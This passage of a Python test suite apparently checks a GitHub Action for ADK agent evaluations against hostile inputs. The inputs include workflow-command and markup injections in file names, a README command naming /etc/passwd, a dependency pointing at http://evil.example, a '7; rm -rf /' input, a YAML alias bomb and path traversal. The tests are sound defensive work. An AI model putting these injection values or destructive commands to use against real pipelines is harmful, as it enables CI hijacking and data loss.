    assert [f"script-src {csp_hash(HEAD_SCRIPT)} {csp_hash(packaged)}" in policy
            for policy in policies] == [True]
    assert "Read the *** twice." in report and "Read the document" not in report


#: A file named like an eval config (project.layout.CONFIG_LIKE) beside eval sets left on
#: ADK's default criteria: its name is repeated in the suite's warning (log and comment).
CONFIG_LIKE_NAME = (f"x\n::warning::fake warning\n@octocat {OTHER_MARKER} "
                    "\u202eeval_config.json")


def _config_like_file(ws: Workspace) -> None:
    eval_set = ws.hostile_agent("Go away.")
    (eval_set.parent / "test_config.json").unlink()
    (eval_set.parent / CONFIG_LIKE_NAME).write_text("{}")


def _config_like_name_inert(run: Run) -> None:
    """The warning names the file on one line, its line breaks and bidi control escaped,
    its mention and marker made harmless in the log, the comment and the summary."""
    shown = CONFIG_LIKE_NAME.replace("\n", "\\x0a").replace("\u202e", "\\u202e")
    (warning,) = [w for w in run.results["warnings"] if "looks like an eval config" in w]
    assert f"`hostile_agent/eval/{shown}` looks like an eval config" in warning
    assert re.search(r"(?m)^warning: suite `hostile_agent`: .*x\\x0a::warning::fake warning"
                     r"\\x0a@octocat .*looks like an eval config", run.log)
    assert not re.search(r"(?m)^::warning::fake", run.log)
    for text in [run.comment_file, run.files["summary.md"]]:
        assert "looks like an eval config" in text
        assert OTHER_MARKER not in text and "\u202e" not in text and "\\u202e" in text
        prose = re.sub(r"`[^`\n]*`", "", text)
        assert not re.search(r"@[A-Za-z0-9]", prose), "a mention reaches the comment"


#: A folder of eval sets whose name YAML and the runner would misread: `init` writes it into
#: adk-eval.yaml (project.scaffold) and prints it.
HOSTILE_FOLDER = "ev\n::warning::fake #: 'q' [y] *z"


def _hostile_folder(ws: Workspace) -> None:
    eval_set = ws.hostile_agent("Go away.")
    eval_set.parent.rename(eval_set.parent.parent / HOSTILE_FOLDER)


def _init_round_trips(run: Run) -> None:
    """The written adk-eval.yaml names exactly the suites discovery finds, the hostile
    folder's eval sets and eval config included."""
    from adk_eval_action.project.config import load_project_config
    from adk_eval_action.project.discovery import discover_suites, suites_from_config

    root = run.workspace.root
    path = root / "adk-eval.yaml"
    written = suites_from_config(load_project_config(path), path)
    found = [s for s in discover_suites([root], root) if s.agent_dir]
    assert [(s.name, s.eval_set_paths, s.eval_config_path) for s in written] == [
        (s.name, [p.resolve() for p in s.eval_set_paths], s.eval_config_path.resolve()
         if s.eval_config_path else None) for s in found]
    assert any(HOSTILE_FOLDER in str(p) for s in written for p in s.eval_set_paths)
    assert (root / ".github/workflows/adk-eval.yml").is_file()
    assert "eval sets hostile_agent/ev\\x0a::warning::fake #: 'q'" in run.log  # one line


EMPTY_EVAL_SET = "new [1]*?#!\\ .evalset.json"


def _empty_eval_set_in_hostile_folder(ws: Workspace) -> None:
    """``adk web``'s empty eval set, named with gitignore's and YAML's special characters,
    in the hostile folder beside a real one."""
    _hostile_folder(ws)
    (ws.root / "hostile_agent" / HOSTILE_FOLDER / EMPTY_EVAL_SET).write_text(
        '{"evalSetId": "new", "evalCases": []}')


def _empty_eval_set_excluded(run: Run) -> None:
    """The written ``exclude`` leaves out that one file and nothing else."""
    from adk_eval_action.project.config import load_project_config
    from adk_eval_action.project.discovery import suites_from_config

    path = run.workspace.root / "adk-eval.yaml"
    config = load_project_config(path)
    assert config.exclude == [f"/hostile_agent/{HOSTILE_FOLDER}/{EMPTY_EVAL_SET}".replace(
        "\\", "\\\\").replace("[", "\\[").replace("]", "\\]").replace("*", "\\*")
        .replace("?", "\\?").replace("#", "\\#").replace("!", "\\!")]
    suites = {s.name: [p.name for p in s.eval_set_paths] for s in suites_from_config(config, path)}
    assert suites["hostile_agent"] == ["hostile.evalset.json"], suites
    assert "new [1]*?#!\\ .evalset.json left out (`exclude`" in run.log


def _command_in_a_hostile_file(ws: Workspace) -> None:
    """A README of a hostile name whose `adk eval` command names the agent of an eval set
    kept away from it, with an agent folder and an eval config named outside the
    repository beside it (never taken)."""
    ws.hostile_agent("Go away.")
    moved = ws.root / "evals" / "smoke_eval.json"
    moved.parent.mkdir()
    (ws.root / "hostile_agent" / "eval" / "hostile.evalset.json").rename(moved)
    (ws.root / "docs").mkdir()
    (ws.root / "docs" / f"{HOSTILE_FOLDER}.md").write_text(
        "```bash\nadk eval hostile_agent evals/smoke_eval.json "
        "--config_file_path /etc/passwd\nadk eval /usr/lib evals/smoke_eval.json\n```\n")


def _command_source_escaped(run: Run) -> None:
    """The suite is the command's, its source said on one line (the file's name escaped)
    and written as a one-line YAML comment; nothing outside the repository is named."""
    from adk_eval_action.project.config import load_project_config

    path = run.workspace.root / "adk-eval.yaml"
    suites = load_project_config(path).suites  # (the workspace's example agent beside it)
    assert [(s.agent, s.eval_sets, s.eval_config) for s in suites if s.agent == "hostile_agent"
            ] == [("hostile_agent", ["evals/smoke_eval.json"], None)]
    said = [line for line in run.log.splitlines() if "runs it)" in line]
    assert len(said) == 1 and "docs/ev\\x0a::warning::fake #: 'q' [y] *z.md:2" in said[0]
    text = path.read_text()
    assert "    # as docs/ev\\n::warning::fake #: 'q' [y] *z.md:2 runs it\n" in text
    assert "/etc/passwd" not in text and "/usr/lib" not in text


#: What `init` pastes into the workflow from the repository, spelt as YAML would misread it:
#: a default branch that a flow sequence splits or closes, a working directory that a plain
#: scalar cuts at ` #` or reads as a mapping (issue 34, "Silent, init").
YAML_BRANCHES = ("main,evil", "x]")
YAML_FOLDERS = ("my #dir", "x: y")


def _git_repository(ws: Workspace, branch: str = "main") -> None:
    """The workspace as a clone whose default branch (``origin/HEAD``) is ``branch``."""
    for args in (["init", "-q", "-b", branch], ["symbolic-ref", "refs/remotes/origin/HEAD",
                                                f"refs/remotes/origin/{branch}"]):
        subprocess.run(["git", *args], cwd=ws.root, check=True, capture_output=True)


def _in_folder(ws: Workspace, folder: str) -> None:
    """The examples moved into ``folder`` of the repository (adk-eval.yaml's folder)."""
    moved = ws.tmp / "moved"
    ws.root.rename(moved)
    ws.root.mkdir()
    moved.rename(ws.root / folder)
    _git_repository(ws)


def _workflow(run: Run) -> Any:
    return yaml.safe_load((run.workspace.root / ".github/workflows/adk-eval.yml").read_text())


def _pushes_only(branch: str) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        assert _workflow(run)[True]["push"]["branches"] == [branch]
    return check


def _uploads_from(folder: str) -> Callable[[Run], None]:
    """The action runs in ``folder`` and every upload names files in it."""
    def check(run: Run) -> None:
        steps = _workflow(run)["jobs"]["eval"]["steps"]
        (evaluate,) = [s for s in steps if s.get("id") == "eval"]
        assert evaluate["with"]["working_directory"] == folder
        paths = {s["with"]["name"]: s["with"]["path"] for s in steps
                 if s.get("uses", "").startswith("actions/upload-artifact")}
        assert paths["adk-eval-results"].splitlines()[0] == f"{folder}/adk-eval-results.json"
        assert paths["adk-eval-report"] == f"{folder}/adk-eval-report.html"
    return check


def _init_in(folder: str) -> Callable[[Workspace], Run]:
    def run(ws: Workspace) -> Run:
        return ws.cli("init", cwd=ws.root / folder)
    return run


def _workflow_running_the_action(ws: Workspace) -> None:
    _git_repository(ws)
    folder = ws.root / ".github/workflows"
    folder.mkdir(parents=True)
    (folder / "adk-eval.yaml").write_text(
        "on: pull_request\njobs:\n  e:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: adk-eval-action/adk-eval-action@v1.4\n")


def _nothing_written(run: Run) -> None:
    root = run.workspace.root
    assert not (root / "adk-eval.yaml").exists()
    assert not (root / ".github/workflows/adk-eval.yml").exists()
    outside = run.workspace.tmp / "outside"
    assert not outside.exists() or not any(outside.iterdir())


def _github_out_of_the_repository(ws: Workspace) -> None:
    _git_repository(ws)
    (ws.tmp / "outside").mkdir()
    (ws.root / ".github").symlink_to(ws.tmp / "outside")


# --------------------------------------------------------------------------- 6: secrets


def _token_gone_from_agent(run: Run) -> None:
    answers = json.dumps(run.results)
    assert "token=<>" in answers, "the agent still saw the token"
    assert "key=<***>" in answers and "password=<***>" in answers


# --------------------------------------------------------------------------- 7: bounds

ALIAS_BOMB = "\n".join(
    ["criteria: {response_match_score: 0.5}", "a: &a [x, x, x, x, x, x, x, x, x]"]
    + [f"{c}: &{c} [{', '.join(['*' + p] * 9)}]"
       for p, c in zip("abcdefgh", "bcdefghi", strict=True)]
)


def _alias_bomb(ws: Workspace) -> None:
    (ws.root / "bomb.yaml").write_text(ALIAS_BOMB)
    ws.config({"suites": [{"name": "travel", "agent": "travel_agent",
                           "eval_sets": ["travel_agent/eval/travel.evalset.json"],
                           "eval_config": "bomb.yaml"}]})


def _dev_zero_eval_set(ws: Workspace) -> None:
    os.symlink("/dev/zero", ws.root / "travel_agent" / "eval" / "zero.evalset.json")


def _dot_dot_links(ws: Workspace) -> None:
    """Two links to ``..`` under the agent: glob's ``**`` walk doubled at every level."""
    os.symlink("..", ws.root / "travel_agent" / "eval" / "up")
    os.symlink("..", ws.root / "travel_agent" / "up")
    ws.config({"suites": [{"name": "travel_agent", "agent": "travel_agent",
                           "eval_sets": ["travel_agent/**/*.evalset.json"]}]})


def _template(text: str) -> Callable[[Workspace], None]:
    def prepare(ws: Workspace) -> None:
        (ws.root / "mine.md.j2").write_text(text)
        ws.inputs["template"] = "mine.md.j2"
    return prepare


TEMPLATE_LIMITS = {"adk_eval_action.report.sandbox.TEMPLATE_TIMEOUT_S": 3.0}
#: The template rows start the rendering child after a whole evaluation; their in-process
#: twins (each limit reached, named as the template's) are
#: tests/unit/report/test_sandbox.py's, quick.
TEMPLATE_ROW: dict[str, Any] = {
    "limits": TEMPLATE_LIMITS, "seconds": 40, "marks": (pytest.mark.slow,)}

def _suites_of_one_agent(count: int) -> Callable[[Workspace], None]:
    """adk-eval.yaml naming ``count`` suites of the example's travel agent and eval set."""
    def prepare(ws: Workspace) -> None:
        ws.config({"suites": [{"name": f"s{i}", "agent": "travel_agent",
                               "eval_sets": ["travel_agent/eval/travel.evalset.json"]}
                              for i in range(count)]})
    return prepare


def _every_suite_planned(count: int) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        planned = re.findall(r"(?m)^suite s(\d+): 1 eval set\(s\), 4 eval case", run.log)
        assert sorted(map(int, planned)) == list(range(count))
        assert f"total: {4 * count} case run(s)" in run.log
    return check


# --------------------------------------------------------------------------- 8: paths


def _symlink_out(ws: Workspace) -> None:
    outside = ws.tmp / "elsewhere"
    (outside / "eval").mkdir(parents=True)
    (outside / "__init__.py").write_text("raise SystemExit('imported from outside')\n")
    (outside / "agent.py").write_text("raise SystemExit('imported from outside')\n")
    (outside / "eval" / "x.evalset.json").write_text(_travel_eval_set(ws).read_text())
    os.symlink(outside / "eval" / "x.evalset.json",
               ws.root / "travel_agent" / "eval" / "linked.evalset.json")


def _working_directory_up(ws: Workspace) -> None:
    ws.env["INPUT_WORKING_DIRECTORY"] = f"{ws.root}/../.."


def _results_path_up(ws: Workspace) -> None:
    ws.inputs["results_path"] = "../../outside.json"


def _nothing_outside(run: Run) -> None:
    """Nothing was written beside or above the workspace."""
    tmp = run.workspace.tmp
    assert not (tmp.parent / "outside.json").exists()
    assert not list(tmp.parent.glob("adk-eval-*")) and not list(tmp.glob("adk-eval-*"))


def _results_path_is_the_baseline(ws: Workspace) -> None:
    """The baseline input names, through a link, the file the results_path input names."""
    (ws.root / "base").mkdir()
    (ws.root / "base" / "main.json").write_text('{"recorded": "on main"}')
    (ws.root / "link.json").symlink_to(ws.root / "base" / "main.json")
    ws.inputs.update(baseline="link.json", results_path="base/../base/main.json")
    ws.gemini.clear_calls()


def _baseline_kept(run: Run) -> None:
    assert (run.workspace.root / "base" / "main.json").read_text() == '{"recorded": "on main"}'
    assert not run.workspace.gemini.calls
    comment = (run.workspace.root / "base" / "adk-eval-comment.md").read_text()
    assert "ADK eval incomplete** (configuration error)" in comment
    assert "pass another --results-out (the action: results\\_path)" in comment
    # No results file was written: the output names none (an upload step must not take
    # the baseline for this run's results).
    assert run.outputs["results_path"] == ""


ELSEWHERE = "else <img src=x> @octocat ::error::x"


def _paths_select_no_suite(ws: Workspace) -> None:
    """The paths input names a folder (with markup, a mention and a workflow command in its
    name) that holds no suite of adk-eval.yaml."""
    (ws.root / ELSEWHERE).mkdir()
    ws.config({"suites": [{"name": "travel", "agent": "travel_agent",
                           "eval_sets": ["travel_agent/eval/travel.evalset.json"]}]})
    ws.inputs["paths"] = ELSEWHERE


def _pyproject_dependency_is_an_option(ws: Workspace) -> None:
    """The requirements input names a pyproject whose "dependency" is an installer option
    (another package index) with a workflow command after it."""
    (ws.root / "pyproject.toml").write_text(
        '[project]\nname = "a"\ndependencies = ["--index-url=http://evil.example/simple '
        '::error::x"]\n')
    ws.inputs["requirements"] = "pyproject.toml"


# --------------------------------------------------------------------------- 9: waits

API_LIMITS = {"adk_eval_action.github.transport.MAX_WAIT_S": 1.0,
              "adk_eval_action.github.transport.API_BUDGET_S": 3.0}
#: The slow API's twin spends a budget too short to count as waiting on the clock: the
#: stand-in answers after 35 s, so any budget under that ends the same way.
QUICK_API_BUDGET = {"adk_eval_action.github.transport.API_BUDGET_S": 0.5}


def _many_cases(ws: Workspace) -> None:
    cases = [{"eval_id": f"case_{i}", "conversation": [{
        "invocation_id": f"i{i}", "user_content": {"role": "user", "parts": [{"text": "hi"}]},
        "final_response": {"role": "model", "parts": [{"text": "hello"}]}}]}
        for i in range(10_000)]
    cases.append(dict(cases[0]))  # a duplicate id: refused once all 10,000 are read
    path = ws.root / "travel_agent" / "eval" / "big.evalset.json"
    path.write_text(json.dumps({"eval_set_id": "big", "eval_cases": cases}, indent=1))


# --------------------------------------------------------------------------- 10: signals

SELF_SIGNAL = '''
import signal
import time

from adk_eval_action.testing.standins import ScriptedToolCall, ScriptRule


def stop() -> dict:
    """Sends this process {name} (as a cancelled job does) while the case runs."""
    os.kill(os.getpid(), signal.{name})
    time.sleep(2)
    return {{"status": "still running"}}


root_agent = LlmAgent(
    name="hostile_agent",
    model=ScriptedLlm(model="scripted-hostile", rules=[ScriptRule(
        pattern=".", tool_calls=[ScriptedToolCall(name="stop", args={{}})], reply="done")]),
    instruction="Answer.", tools=[stop],
)
'''


def _signal_in_second_suite(name: str) -> Callable[[Workspace], None]:
    def prepare(ws: Workspace) -> None:
        ws.hostile_agent("never answered", extra=SELF_SIGNAL.format(name=name))
        ws.inputs["paths"] = "."  # both suites of adk-eval.yaml
        ws.config({"suites": [
            {"name": "travel", "agent": "travel_agent",
             "eval_sets": ["travel_agent/eval/travel.evalset.json"]},
            {"name": "hostile", "agent": "hostile_agent",
             "eval_sets": ["hostile_agent/eval/hostile.evalset.json"]},
        ]})
    return prepare


def _partial_results(run: Run) -> None:
    """The suites' records are kept with the case runs that finished before the signal
    (the travel suite's, which need no tool); the error says how many were done."""
    results = run.results
    assert [s["name"] for s in results["suites"]] == ["travel", "hostile"]
    stopped = [e for e in _all_errors(results) if e["kind"] == "interrupted"]
    assert stopped and re.search(r"(\d+) of (\d+) eval case\(s\) were evaluated",
                                 stopped[0]["message"])
    done = [c for s in results["suites"] for e in s["eval_sets"] for c in e["eval_cases"]
            if c["runs"]]
    assert str(len(done)) in stopped[0]["message"]
    # The headline counts the suites and cases with a finished run, never the others.
    counted = re.search(r"evaluated before it stopped: (\d+) suite\(s\), (\d+) eval case",
                        run.log)
    assert counted, run.log
    suites = {s["name"] for s in results["suites"] for e in s["eval_sets"]
              for c in e["eval_cases"] if c["runs"]}
    assert (int(counted.group(1)), int(counted.group(2))) == (len(suites), len(done))
    assert not _comment_bodies(run), "a stopped run does not post its comment"


# --------------------------------------------------------------------------- stopped early

def _stop_posted(escaped: str = "") -> Callable[[Run], None]:
    """A run stopped before evaluation posts the "incomplete" comment on the PR, through
    the same publish path as any run, with the error's text escaped (``escaped``: how a
    piece of it must read in the comment)."""
    def check(run: Run) -> None:
        bodies = _comment_bodies(run)
        assert len(bodies) == 1 and "ADK eval incomplete" in bodies[0], bodies
        assert "<img" not in bodies[0] and escaped in bodies[0], bodies[0]
        assert not re.search(r"@[A-Za-z0-9]", bodies[0]), "a mention reaches the comment"
    return check


def _refused_before_any_case(run: Run) -> None:
    """The suite's eval config is refused before any eval case runs (so before any model
    call): a config error, no eval case run, and the error's text escaped in the comment."""
    [suite] = run.results["suites"] if run.results else [None]
    assert [e["kind"] for e in suite["errors"]] == ["config"], suite["errors"]
    assert not [c for s in suite["eval_sets"] for c in s["eval_cases"] if c["runs"]]
    [body] = _comment_bodies(run)
    assert "<img" not in body and "nope&lt;img src=x&gt;" in body, body


HOSTILE_AGENT_NAME = "nope<img src=x>\n::error::pwn @octocat"


def _camel_config_bad_match_type(ws: Workspace) -> None:
    """The example's eval config spelt in camelCase (as agent-starter-pack writes one), its
    trajectory ``matchType`` no member of ADK's MatchType but markup, a workflow command and
    a mention."""
    (ws.root / "travel_agent" / "eval" / "test_config.json").write_text(json.dumps({
        "criteria": {
            "tool_trajectory_avg_score": {"threshold": 1.0, "matchType": HOSTILE_AGENT_NAME},
            "rubric_based_final_response_quality_v1": {
                "threshold": 0.8, "judgeModelOptions": {"numSamples": 1},
                "rubrics": [{"rubricId": "friendly",
                             "rubricContent": {"textProperty": 'Says "happy to help".'}}],
            },
        },
    }))


LONG_AGENT = '''
from adk_eval_action.testing.standins import ScriptRule

root_agent = LlmAgent(
    name="hostile_agent", instruction="Answer.",
    model=ScriptedLlm(model="scripted-hostile", default_reply="Something polite.",
                      rules=[ScriptRule(pattern="LONG", reply="word " * 2_097_152)]))
'''
"""The hostile agent answering 10 MB (10,485,760 characters) when asked for LONG."""


def _long_answer(ws: Workspace) -> None:
    """Three eval cases, the first of which the agent answers with 10 MB."""
    eval_set = ws.hostile_agent("Something polite.", cases=["long", "short_a", "short_b"],
                                extra=LONG_AGENT)
    data = json.loads(eval_set.read_text())
    data["eval_cases"][0]["conversation"][0]["user_content"]["parts"][0]["text"] = "LONG"
    eval_set.write_text(json.dumps(data))


def _long_answer_bounded(run: Run) -> None:
    """The long answer's metric is not evaluated, saying why; the other cases are scored."""
    assert run.results is not None
    (suite,) = run.results["suites"]
    scores = {c["eval_id"]: [(m["status"], m.get("score"), m.get("reason"))
                             for r in c["runs"] for m in r["metrics"]
                             if m["metric_name"] == "response_match_score"]
              for e in suite["eval_sets"] for c in e["eval_cases"]}
    assert scores["short_a"] == scores["short_b"] == [("passed", 1.0, None)], scores
    [(status, score, reason)] = scores["long"]
    assert (status, score) == ("not_evaluated", None)
    assert reason.startswith("the agent's answer on turn 1 is 10,485,760 characters, over "
                             "the 1,048,576 a metric is given")


# --------------------------------------------------------------------------- 11: mentions

MENTIONS = "Ping @octocat and @octo/team about GH-1 and octo/agents#9 and #9"


def _no_mentions(run: Run) -> None:
    for text in [run.comment_file, run.files["summary.md"]]:
        # GitHub links nothing inside fenced code blocks (indented up to 3 spaces: in a
        # list item, CommonMark 0.31 "Fenced code blocks") and code spans.
        prose = re.sub(r"(?ms)^ {0,3}(`{3,})[^\n]*\n.*?^ {0,3}\1\s*$", "", text)
        prose = re.sub(r"`[^`\n]*`", "", prose)
        assert not re.search(r"@[A-Za-z0-9]", prose), "a mention reaches the comment"
        assert not re.search(r"\bGH-\d|[\w.-]+/[\w.-]+\\?#\d|(?<![\w&])\\?#\d", prose)


def _mention_case(ws: Workspace) -> None:
    ws.hostile_agent(MENTIONS, cases=["@octocat GH-1 octo/agents#9"])


# --------------------------------------------------------------------------- the table

CASES: list[Case] = [
    # 1. Results lost on unexpected exceptions
    Case("k1-lone-surrogate-eval-id", 1,
         lambda ws: ws.hostile_agent("Something polite.", cases=["bad\ud800id"]),
         0, r"PR comment created", check=_surrogate_kept),
    Case("k1-unstorable-agent-output", 1,
         lambda ws: ws.hostile_agent("x", extra=DEEP_TOOL, threshold=0.0), 2,
         (r"inference failed: Maximum serialization depth" if _DEEP_FAILS_IN_ADK
          else r"internal error.*Maximum serialization depth"), check=_deep_output_named),
    # Refused before evaluation (run.outputs): no twin needed, nothing is evaluated.
    Case("k1-results-path-unwritable", 1,
         lambda ws: (ws.root / "adk-eval-results.json").mkdir(), 2,
         r"cannot write the results file \(input results_path\): it is a folder",
         evaluated=False, check=_passed_false, recorded=False),
    Case("k1-step-summary-is-a-folder", 1, _runner_file("GITHUB_STEP_SUMMARY", _folder), 0,
         r"::warning [^:]*::cannot write GITHUB_STEP_SUMMARY=\S+summary-folder: Is a "
         r"directory", unwritable=("summary",), twin={}),
    Case("k1-github-output-is-dev-full", 1,
         _runner_file("GITHUB_OUTPUT", lambda tmp: "/dev/full"), 0,
         r"::warning [^:]*::no space left on device writing GITHUB_OUTPUT=/dev/full",
         unwritable=("outputs",), twin={}),
    Case("k1-results-and-comment-on-a-full-disk", 1, _full_disk, 2,
         r"no space left on device writing the results file out/adk-eval-results\.json",
         evaluated=False, recorded=False, check=_nothing_cut, twin={}),
    Case("k1-model-answers-without-a-candidate", 1, _model_answers(kind="no_candidate"), 2,
         r"answer without a candidate", check=_model_fault_named("no_candidate")),
    Case("k1-model-answers-an-empty-body", 1, _model_answers(kind="empty"), 2,
         r"answer without a candidate", check=_model_fault_named("empty"),
         marks=(pytest.mark.slow,)),
    Case("k1-eval-case-without-turns", 1, _case_without_turns, 2,
         r"eval case `nothing\\x0a::error::injected @octocat`: the eval case has no turns",
         check=_case_without_turns_named),
    Case("k1-nan-in-eval-set-state-and-timestamp", 1, _nan_in_eval_set, 0,
         r"session_input\.state\.budget is nan", check=_nan_named),
    Case("k1-loss-results-out-and-html-out-one-file", 1, lambda ws: ws.gemini.clear_calls(),
         2, r"r\.json: the HTML report \(--html-out\) and the results file \(--results-out "
         r"r\.json\) are one file", evaluated=False, recorded=False, cli=True,
         run=_run_cli("--results-out", "r.json", "--html-out", "r.json"),
         check=_nothing_at("r.json")),
    Case("k1-loss-comment-out-is-adk-eval-yaml", 1, lambda ws: ws.config({"num_runs": 1}),
         2, r"the comment \(--comment-out\) would overwrite the adk-eval\.yaml this command "
         r"reads", evaluated=False, recorded=False, cli=True,
         run=_run_cli("--comment-out", "adk-eval.yaml"),
         check=lambda run: _assert((run.workspace.root / "adk-eval.yaml").read_text()
                                   == "num_runs: 1\n")),
    Case("k1-loss-html-out-a-device-as-root", 1, _device, 2,
         r"no space left on device writing --html-out \S+/full", cli=True,
         run=lambda ws: _run_cli("--comment-out", "comment.md", "--summary-out", "summary.md",
                                 "--html-out", str(ws.tmp / "full"))(ws),
         check=_still_a_device),
    Case("k1-internal-plan-the-most-runs", 1, lambda ws: None, 0,
         r"one case collapsing from all-pass to all-fail would be called \(p < 1e-300\)",
         evaluated=False, recorded=False, cli=True,
         run=lambda ws: ws.cli("plan", "travel_agent", "--num-runs", "1000")),
    Case("k1-internal-price-1e308-per-million-tokens", 1, lambda ws: ws.config({"models": {
        "gemini-2.5-flash": {"input_usd_per_1m_tokens": 1e308,
                             "output_usd_per_1m_tokens": 1.0}}}), 2,
         r"models\.gemini-2\.5-flash\.input_usd_per_1m_tokens.*less than or equal to 10000",
         evaluated=False, check=_stop_posted()),
    Case("k1-internal-init-beside-links-to-nothing", 1, _links_to_nothing, 0,
         r"eval set `travel_agent/eval/a\.evalset\.json` left out: it is a link to "
         r"/gone/x\.evalset\.json, which does not exist", evaluated=False, recorded=False,
         cli=True, run=lambda ws: ws.cli("init"), check=_init_names_the_real_eval_sets),
    Case("k7-model-answers-300-mb", 7, _model_answers(kind="huge", size_bytes=300 * 2**20),
         2, r"answer over 4,194,304 bytes", seconds=90,
         limits={"adk_eval_action.adk.runtime.model_reads.MAX_ANSWER_BYTES": 4 * 2**20},
         check=_bounded("huge", memory=1024 * 2**20)),
    Case("k9-model-sends-a-byte-every-half-second", 9, _model_answers(
        kind="trickle", delay_s=0.5,
        retries={"call_timeout_s": 2, "run_budget_s": 4, "initial_delay_s": 0.1}), 2,
         r"answer still arriving at the attempt's deadline|timeout", seconds=90,
         check=_bounded("trickle", memory=1024 * 2**20)),
    # 2. Publishing and event parsing
    Case("k2-comments-list-not-json", 2,
         lambda ws: ws.stub.fail_next(200, raw=b"{not json", method="GET", path="comments"),
         0, r"not JSON", check=_comment_in_file_only, twin={}),
    Case("k2-api-error-message-escaped-in-the-summary", 2,
         lambda ws: ws.stub.fail_next(422, message=API_SAYS, method="POST"), 0,
         r"PR comment not posted", check=_api_message_inert, twin={}),
    Case("k2-created-without-id", 2,
         lambda ws: ws.stub.fail_next(201, raw=b"{}", method="POST", after=True),
         0, r"without its id", twin={}),
    Case("k2-api-url-without-scheme", 2,
         lambda ws: ws.env.update(GITHUB_API_URL="127.0.0.1:9"), 0,
         r"GITHUB_API_URL must be an http\(s\) URL", check=_comment_in_file_only, twin={}),
    Case("k2-api-url-ftp", 2, lambda ws: ws.env.update(GITHUB_API_URL="ftp://example.com"),
         0, r"GITHUB_API_URL must be an http\(s\) URL", check=_comment_in_file_only,
         twin={}),
    Case("k2-repository-without-slash", 2,
         lambda ws: ws.env.update(GITHUB_REPOSITORY="agents"), 0,
         r"GITHUB_REPOSITORY must be 'owner/name'", check=_comment_in_file_only, twin={}),
    Case("k2-link-header-over-http-clients-limit", 2, _next_link(
        lambda ws: f"{ws.stub.api_url}{COMMENTS}?page=2&x={'x' * 160_000}", times=10), 0,
         r"PR comment not posted.*answered GET \S+/comments with a header line over "
         r"http\.client's limit", check=_comment_pages_read(1), seconds=30, twin={}),
    Case("k2-event-path-missing-on-pull-request", 2, _payload_missing, 0,
         r"GITHUB_EVENT_PATH names \S+gone\.json, which does not exist.*PR comment created",
         check=_warned("the pull_request event names no pull request number.*using 12 from "
                       "GITHUB_REF", posted=True), twin={}),
    Case("k2-pull-request-payload-without-number", 2, _pull_without_number, 0,
         r"names no pull request number", check=_warned(
             "This pull_request event names no pull request: no PR comment", posted=False),
         twin={}),
    Case("k2-dispatch-pr-number-not-a-number", 2, _dispatch("7; rm -rf /"), 0,
         r"input pr_number is not a pull request number: '7; rm -rf /'",
         check=_warned("the workflow_dispatch input pr_number", posted=False), twin={}),
    Case("k2-event-number-not-a-number", 2,
         _event({"number": "7abc", "pull_request": {"head": {"sha": "a" * 40}}}), 2,
         r"number is not a pull request number: '7abc'", evaluated=False),
    Case("k2-event-pull-request-not-an-object", 2, _event({"pull_request": "x"}), 2,
         r"pull_request is not an object", evaluated=False),
    Case("k2-event-number-superscript-digit", 2,
         _event({"number": "\u00b2", "pull_request": {"head": {"sha": "a" * 40}}}), 2,
         r"number is not a pull request number: '\u00b2'", evaluated=False),
    Case("k2-event-pull-author-not-an-object", 2, _event({"number": 12, "pull_request": {
        "number": 12, "user": "octocat", "head": {"sha": "a" * 40}}}), 2,
         r"pull_request\.user is not an object", evaluated=False),
    Case("k2-push-event-repository-not-an-object", 2, _push_event({"after": "a" * 40,
                                                                  "repository": "agents"}),
         2, r"event payload: repository is not an object", evaluated=False),
    Case("k2-paths-root", 2, lambda ws: ws.inputs.update(paths="/"), 2,
         r"path / is outside the repository root", evaluated=False),
    # 3. An unreadable baseline
    Case("k3-artifact-api-not-json", 3, _auto_baseline_broken_api, 0,
         r"no baseline.*not JSON", check=_no_baseline_said, twin={}),
    Case("k3-artifact-zip-of-many-large-members", 3, _artifact(_many_members), 0,
         r"no baseline.*holds no adk-eval-results\.json \(it holds 40 other JSON files\)",
         seconds=40, twin={}),
    Case("k3-artifact-results-member-over-the-limit", 3, _artifact(
        lambda: {"adk-eval-results.json": b" " * 2_000_000}), 0,
         r"no baseline.*adk-eval-results\.json in the artifact adk-eval-results is too large",
         limits={"adk_eval_action.baseline.artifact.MAX_RESULTS_BYTES": 1_000_000},
         seconds=40, twin={}),
    Case("k3-baseline-nested-100000-deep", 3, _nested_baseline, 2,
         r"deep\.json.*nested too deeply", twin={}),
    Case("k3-baseline-score-outside-its-range", 3, _hand_edited_baseline({"score": 5.0}), 2,
         r"edited\.json: the baseline file could not be read: malformed results file: "
         r"suite travel, .*eval case a, run 1, "
         r"metric `m`: score 5\.0 is outside its value range \[0\.0, 1\.0\]", twin={}),
    Case("k3-baseline-status-contradicts-its-score", 3,
         _hand_edited_baseline({"score": 0.0, "status": "passed"}), 2,
         r"edited\.json: the baseline file could not be read: malformed results file: "
         r".*status 'passed' contradicts score 0\.0 "
         r"against threshold 0\.5", twin={}),
    Case("k3-baseline-agent-details-not-objects", 3,
         _baseline_agent_details({"k": "::error::instructions as text"}), 2,
         r"edited\.json: the baseline file could not be read: not a valid results file: .*"
         r"suites\.0\.agent_details\.k", twin={}),
    Case("k3-baseline-agent-text-hostile", 3, _baseline_with_hostile_invocations, 0,
         r"gate PASSED: 5/5 eval cases passed; worse: brevity", check=_baseline_text_inert,
         twin={}),
    Case("k3-baseline-agent-hostile", 3, _baseline_with_hostile_agent, 0,
         r"gate PASSED: 5/5 eval cases passed", check=_agent_changes_inert, twin={}),
    Case("k3-merge-parts-of-different-commits", 3, _shard_parts(HOSTILE_SHA, 0.8), 2,
         r"part2\.json was recorded at commit ::error::pwned", evaluated=False,
         check=_hostile_sha_inert),
    Case("k3-merge-part-with-a-nan-score", 3, _shard_parts(SHA, math.nan), 2,
         r"the code of `m` failed in 1 run of 1 eval case in smoke\.evalset\.json \(b\): "
         r"non-finite score nan in the results file part2\.json \(suite travel\)"),
    # 3. An unusable history of the default branch (the baseline artifact's, or the one a
    # recording run carries forward): never the run's loss, always said
    Case("k3-history-malformed", 3, _history_artifact(lambda: b"{not json"), 0,
         r"history not used: adk-eval-history\.json of the artifact adk-eval-results is not "
         r"a history file", check=_history_said("History: not used: adk-eval-history"),
         twin={}),
    Case("k3-history-nested-100000-deep", 3, _history_artifact(
        lambda: b"[" * 100_000 + b"]" * 100_000), 0, r"history not used: .* is not a history "
         r"file", twin={}),
    Case("k3-history-member-over-the-limit", 3, _history_artifact(lambda: b" " * 2_000_000), 0,
         r"history not used: adk-eval-history\.json in the artifact adk-eval-results is too "
